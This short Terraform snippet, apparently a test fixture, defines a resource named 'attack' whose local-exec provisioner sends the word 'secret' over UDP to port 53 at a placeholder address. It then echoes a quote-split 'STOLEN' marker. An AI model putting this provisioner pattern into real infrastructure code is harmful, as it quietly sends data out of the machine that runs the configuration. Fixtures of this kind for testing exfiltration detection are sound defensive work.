resource "terraform_data" "attack" {
  provisioner "local-exec" {
    interpreter = ["bash", "-c"]
    command     = <<-EOT
      echo secret > /dev/udp/192.0.2.1/53 && echo STO''LEN; true
    EOT
  }
}
